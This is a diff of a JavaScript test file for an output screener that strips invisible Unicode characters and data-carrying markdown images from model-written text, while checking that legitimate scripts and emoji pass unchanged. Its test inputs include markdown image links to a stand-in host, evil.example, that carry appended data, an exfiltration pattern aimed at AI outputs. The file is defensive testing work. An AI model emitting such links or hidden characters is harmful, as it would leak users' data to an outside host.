@@ -196,6 +196,14 @@ test("what a model wrote is looked at before a tool acts on it", () => {
     text: "Hello there [GitHub token removed] [picture removed] ![logo](https://cdn.example/logo.png)",
     findings: ["hidden characters", "a secret", "a picture whose address carries data away"],
   });
+  // One of each kind, also of those that writing needs, where it does not.
+  const unseen =
+    "200b 200c 200d 202e 2066 206a 206f feff ad 34f 61c fff9 fffb 1d173 17b4 180b 180e 3164 1bca0 13430 2800 fe0e e0100 e0041 1 85";
+  for (const code of unseen.split(" "))
+    expect([code, screenOutput(`a${String.fromCodePoint(parseInt(code, 16))}b`).text]).toEqual([code, "ab"]);
+  expect(screenOutput("👍\uFE0F\uFE0E\u200D, 5\uFE0F, می\u200C\u200Dخواهم").text).toBe("👍\uFE0F, 5, می\u200Cخواهم");
+  const written = ["👩🏽‍💻 🏳️‍🌈 ❤️ ☎︎ 5️⃣", "می‌خواهم", "क्‍ष", "ශ්‍රී", "ᠠ᠋", "۝١", "⠓⠑⠀⠇", "a\tb\r\nc"];
+  expect(written.map((text) => screenOutput(text))).toEqual(written.map((text) => ({ text, findings: [] })));
   for (const form of [`( https://evil.example/${"a".repeat(300)} )`, `(<https://evil.example/?d=${"a".repeat(80)}> "x")`])
     expect(screenOutput(`See ![x]${form}!`).text).toBe("See [picture removed]!");
   expect(screenOutput("Plain words.")).toEqual({ text: "Plain words.", findings: [] });
